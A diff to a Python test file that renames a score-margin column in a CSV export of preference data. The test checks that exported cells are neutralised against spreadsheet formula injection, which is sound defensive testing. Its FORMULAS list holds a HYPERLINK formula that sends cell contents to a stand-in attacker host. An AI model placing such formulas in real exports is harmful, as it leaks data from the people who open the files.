@@ -24,8 +24,8 @@ from tests.runs import run
 
 Build = Callable[..., Recipe]
 COLUMNS = [
-    "prompt", "chosen", "rejected", "chosen_score", "rejected_score", "margin", "chosen_member", "rejected_member",
-    "source", "prompt_id",
+    "prompt", "chosen", "rejected", "chosen_score", "rejected_score", "score_margin", "chosen_member",
+    "rejected_member", "source", "prompt_id",
 ]  # fmt: skip
 FORMULAS = [
     '=HYPERLINK("https://evil.example?x="&A1, "look")',
@@ -125,7 +125,7 @@ def test_s6_cells_of_the_csv_export_are_neutralised(
         for name, text in texts.items():
             assert cell[name] == (f"'{text}" if text.startswith(DANGEROUS) else text)
             neutralised += text.startswith(DANGEROUS)
-        for name in ("chosen_score", "rejected_score", "margin"):
+        for name in ("chosen_score", "rejected_score", "score_margin"):
             assert float(cell[name]) == pytest.approx(row[name])
         assert not any(value.startswith(DANGEROUS) for name, value in cell.items() if name in texts)
     assert neutralised > 2 * len(FORMULAS)
